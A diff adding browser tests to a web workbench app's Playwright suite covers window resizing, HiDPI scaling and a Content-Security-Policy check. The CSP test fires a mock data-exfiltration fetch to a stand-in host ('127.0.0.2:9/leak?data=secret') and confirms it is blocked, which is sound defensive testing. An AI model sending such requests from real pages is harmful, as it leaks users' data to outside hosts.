@@ -224,6 +224,49 @@ async function main() {
     await waitFor(() => window.workbench.ui().lang === 'fr');
   });
 
+  test('window resize: the canvas and the UI follow', async () => {
+    await page.setViewportSize({ width: 800, height: 600 });
+    await waitFor(() => { const u = window.workbench.ui(); return u.display[0] === 800 && u.display[1] === 600; });
+    const u = await ui();
+    assert(u.rects['sql.editor'][3] < 600 && u.rects['sql.editor'][2] <= 800, 'SQL editor inside the smaller window');
+    await page.screenshot({ path: path.join(OUT, 'shell_narrow.png') });
+    await page.setViewportSize({ width: 1280, height: 760 });
+    await waitFor(() => window.workbench.ui().display[0] === 1280);
+  });
+
+  test('HiDPI: devicePixelRatio 2 renders at twice the pixels with crisp, scaled fonts', async () => {
+    const cdp = await page.context().newCDPSession(page);
+    await cdp.send('Emulation.setDeviceMetricsOverride', { width: 1280, height: 760, deviceScaleFactor: 2, mobile: false });
+    await waitFor(() => { const u = window.workbench.ui(); return u.dpr === 2 && u.display[0] === 2560; });
+    const u = await ui();
+    eq(u.display[1], 1520, 'canvas backing store height');
+    const r = u.rects['sql.run'];
+    assert(r[2] - r[0] > 60 && r[2] - r[0] < 400, 'button keeps its CSS size: ' + JSON.stringify(r));
+    await page.screenshot({ path: path.join(OUT, 'shell_hidpi.png') });
+    await cdp.send('Emulation.clearDeviceMetricsOverride');
+    await waitFor(() => window.workbench.ui().dpr === 1);
+    await page.setViewportSize({ width: 1280, height: 760 });
+  });
+
+  test('Content-Security-Policy blocks a cross-origin fetch from the page', async () => {
+    const r = await page.evaluate(async () => {
+      const seen = [];
+      const onViolation = (e) => seen.push(e.violatedDirective);
+      document.addEventListener('securitypolicyviolation', onViolation);
+      let outcome;
+      try { await fetch('http://127.0.0.2:9/leak?data=secret'); outcome = 'sent'; } catch (e) { outcome = 'blocked'; }
+      await new Promise((res) => setTimeout(res, 100));
+      document.removeEventListener('securitypolicyviolation', onViolation);
+      return { outcome, seen };
+    });
+    eq(r.outcome, 'blocked', 'cross-origin fetch');
+    assert(r.seen.includes('connect-src'), 'CSP violation reported for connect-src: ' + JSON.stringify(r.seen));
+    // Not counted as a leak below: it never left the browser.
+    for (let i = requests.length - 1; i >= 0; i--) if (requests[i].startsWith('http://127.0.0.2:9/')) requests.splice(i, 1);
+    for (let i = failed.length - 1; i >= 0; i--) if (failed[i].startsWith('http://127.0.0.2:9/')) failed.splice(i, 1);
+    for (let i = pageErrors.length - 1; i >= 0; i--) if (/Content Security Policy|127\.0\.0\.2/.test(pageErrors[i])) pageErrors.splice(i, 1);
+  });
+
   test('no page errors, every request same-origin and successful', async () => {
     const foreign = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('blob:') && !u.startsWith('data:'));
     fs.writeFileSync(path.join(OUT, 'requests.log'), requests.join('\n') + '\n');
